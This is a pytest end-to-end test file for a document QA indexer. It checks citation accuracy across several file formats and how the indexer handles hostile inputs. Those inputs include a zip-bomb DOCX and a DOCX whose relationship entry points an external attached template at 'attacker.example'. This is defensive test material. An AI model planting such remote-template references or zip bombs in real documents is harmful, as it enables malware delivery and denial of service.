"""End to end over a corpus mixing .txt, .md, .pdf, .html and .docx, written by the real tools.

Questions answered from each format cite the right file first (a PDF, the right page), and every
citation slices ``parisqa text FILE`` exactly. A hostile folder (encrypted, scanned, truncated,
zip-bomb, external-reference, script-stuffed, lying files) indexes what it can and names the rest
with their reasons in the ``index --json`` summary; the served index stays intact.
"""

from __future__ import annotations

import io
import json
import os
import sys
import zipfile
from pathlib import Path

import docmaker
import pytest

from parisqa.cli import main

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT / "tests" / "corpus" / "formats"))
import makedocs  # noqa: E402  (the extractor tests' document writer, for the hostile files)

SEED = ROOT / "corpus" / "paris-ai-city.txt"
QUESTIONS = {
    "pdf": docmaker.PDF_QUESTION,
    "docx": docmaker.DOCX_QUESTION,
    "html": docmaker.HTML_QUESTION,
    "md": docmaker.MD_QUESTION,
    "txt": docmaker.TXT_QUESTION,
}
FACTS = {
    "pdf": docmaker.PDF_FACT,
    "docx": docmaker.DOCX_FACT,
    "html": docmaker.HTML_FACT,
    "md": docmaker.MD_FACT,
    "txt": "Ethical AI ensures",
}


def run_json(capsys, *argv):
    """Run the CLI in-process; its one JSON object (``capsys`` is pytest's capsysbinary)."""
    code = main(list(argv))
    out, err = capsys.readouterr()
    assert code == 0, err
    return json.loads(out)


def text_of(capsysbinary, source: str) -> str:
    assert main(["text", source]) == 0
    return capsysbinary.readouterr().out.decode("utf-8")


@pytest.fixture
def mixed(tmp_path: Path) -> tuple[Path, dict[str, str]]:
    folder = tmp_path / "corpus"
    return folder, docmaker.write_corpus(folder, SEED)


def test_each_format_is_cited_first_with_exact_spans(capsysbinary, mixed, embedder):
    corpus, names = mixed
    summary = run_json(capsysbinary, "index", "--json")
    assert summary["added"] == 5 and summary["skipped"] == []
    texts = {}
    for kind, question in QUESTIONS.items():
        answer = run_json(capsysbinary, "ask", "--json", "--no-build", question)
        assert not answer["abstained"], (kind, answer)
        first = answer["citations"][0]
        assert first["source"] == names[kind], (kind, answer)
        assert FACTS[kind] in answer["answer"], (kind, answer["answer"])
        if kind == "pdf":
            assert first["page"] == 2 and "pages" not in first  # the fact's passage lies on page 2 only
        else:
            assert "page" not in first and "pages" not in first
        if kind in ("docx", "html", "md"):
            assert first["heading"]  # headings survive conversion
        for citation in answer["citations"] + answer.get("related", []):
            source = citation["source"]
            if source not in texts:
                capsysbinary.readouterr()
                texts[source] = text_of(capsysbinary, source)
            text = texts[source]
            assert text[citation["start"] : citation["end"]] == citation["text"]
            for h in citation["highlights"]:
                assert citation["start"] <= h["start"] < h["end"] <= citation["end"]
    # The text file's "text" is the file itself; a converted one's is not its bytes.
    assert texts.get(names["txt"], SEED.read_text(encoding="utf-8")) == SEED.read_bytes().decode("utf-8")
    capsysbinary.readouterr()
    assert text_of(capsysbinary, str(corpus / names["pdf"])).startswith("# Mountain Observatories\n")


def test_a_passage_spanning_pages_gives_both(capsysbinary, tmp_path, embedder):
    from fpdf import FPDF

    from parisqa.index.store import load_index

    corpus = tmp_path / "corpus"
    corpus.mkdir()
    doc = FPDF(format="A4")
    doc.set_font("Helvetica", "", 11)
    doc.add_page()
    words = docmaker.FILLER.split()
    # One long paragraph running from page 1 onto page 2: some chunk holds the page break.
    paragraph = " ".join(f"{w} {i}" if i % 9 == 0 else w for i, w in enumerate(words * 30))
    doc.multi_cell(0, 6, paragraph, new_x="LMARGIN", new_y="NEXT")
    (corpus / "long.pdf").write_bytes(bytes(doc.output()))
    run_json(capsysbinary, "index", "--json")
    chunks = list(load_index(Path(os.environ["PARISQA_INDEX"])).chunks)
    assert {c.pages for c in chunks} >= {(1, 1), (1, 2)}, [c.pages for c in chunks]
    spanning = next(c for c in chunks if c.pages == (1, 2))
    answer = run_json(capsysbinary, "ask", "--json", "--no-build", " ".join(spanning.text.split()[-40:]))
    cited = [c for c in answer["citations"] + answer.get("related", []) if c["start"] == spanning.start]
    assert cited and cited[0]["page"] == 1 and cited[0]["pages"] == [1, 2], answer


def test_unchanged_files_are_not_extracted_again(capsysbinary, mixed, embedder, monkeypatch):
    from parisqa.corpus import reader

    corpus, names = mixed
    run_json(capsysbinary, "index", "--json")
    calls = []
    real = reader.extract
    monkeypatch.setattr(reader, "extract", lambda path, data: calls.append(path) or real(path, data))
    (corpus / names["html"]).write_bytes(docmaker.html_bytes().replace(b"seven in the morning", b"six in the morning"))
    summary = run_json(capsysbinary, "index", "--json")
    assert calls == [names["html"]]  # the PDF and DOCX came from the index's stored extractions
    assert summary["changed"] == 1 and summary["unchanged"] == 4
    assert 0 < summary["embedded"] <= 2  # only the changed passage

    # A new extractor version re-extracts, but re-embeds only chunks whose text changed (none here).
    index = Path(os.environ["PARISQA_INDEX"])
    manifest = json.loads((index / "manifest.json").read_text())
    manifest["files"][names["pdf"]]["extractor_version"] = "pdf-0 older"
    (index / "manifest.json").write_text(json.dumps(manifest))
    calls.clear()
    summary = run_json(capsysbinary, "index", "--json")
    assert calls == [names["pdf"]]
    assert summary["changed"] == 1 and summary["embedded"] == 0


def _docx_with(extra: dict[str, bytes] | None = None, rels_patch: bytes | None = None) -> bytes:
    buf = io.BytesIO()
    source = docmaker.docx_bytes()
    with zipfile.ZipFile(io.BytesIO(source)) as src, zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as out:
        for info in src.infolist():
            data = src.read(info)
            if rels_patch and info.filename == "word/_rels/document.xml.rels":
                data = data.replace(b"</Relationships>", rels_patch + b"</Relationships>")
            out.writestr(info, data)
        for name, data in (extra or {}).items():
            out.writestr(name, data)
    return buf.getvalue()


HOSTILE = {
    "encrypted.pdf": (lambda: makedocs.pdf(2, encrypt=True), "encrypted"),
    "noise.pdf": (makedocs.noise_pdf, "OCR mean word confidence"),
    "truncated.pdf": (lambda: docmaker.pdf_bytes()[:900], "damaged or truncated PDF"),
    "truncated.docx": (lambda: docmaker.docx_bytes()[:3000], "damaged or not a Word document"),
    "bomb.docx": (lambda: _docx_with({"word/media/big.bin": b"\0" * 60_000_000}), "zip bomb"),
    "external.docx": (
        lambda: _docx_with(
            rels_patch=b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            b'relationships/attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/>'
        ),
        "external reference",
    ),
    "script.html": (lambda: makedocs.html(script_bytes=10 * 1024 * 1024), None),
    "lying.pdf": (docmaker.html_bytes, "the content is HTML, not PDF"),
}


def test_hostile_folder_indexes_the_rest_and_names_each_skipped_file(capsysbinary, mixed, embedder, tmp_path):
    corpus, names = mixed
    run_json(capsysbinary, "index", "--json")
    before = run_json(capsysbinary, "ask", "--json", "--no-build", docmaker.PDF_QUESTION)
    for name, (make, _) in HOSTILE.items():
        (corpus / name).write_bytes(make())
    summary = run_json(capsysbinary, "index", "--json")
    skipped = {entry["source"]: entry["reason"] for entry in summary["skipped"]}
    artifacts = ROOT / "test-artifacts"
    artifacts.mkdir(exist_ok=True)
    (artifacts / "hostile-skipped.json").write_text(json.dumps(summary["skipped"], indent=1), encoding="utf-8")
    for name, (_, reason) in HOSTILE.items():
        if reason is None:
            continue  # 10 MB of script around a real article: the article indexes
        assert name in skipped, (name, summary)
        assert reason in skipped[name], (name, skipped[name])
        assert "\n" not in skipped[name]
    assert "script.html" not in skipped
    assert summary["unchanged"] == 5 and summary["added"] == 1
    after = run_json(capsysbinary, "ask", "--json", "--no-build", docmaker.PDF_QUESTION)
    assert after["citations"][0]["source"] == before["citations"][0]["source"] == names["pdf"]
    assert after["citations"][0]["page"] == 2
    # The script itself is not text of the page.
    capsysbinary.readouterr()
    assert main(["text", "script.html"]) == 0
    out = capsysbinary.readouterr().out.decode("utf-8")
    assert "var x" not in out and "Harbour traffic" in out
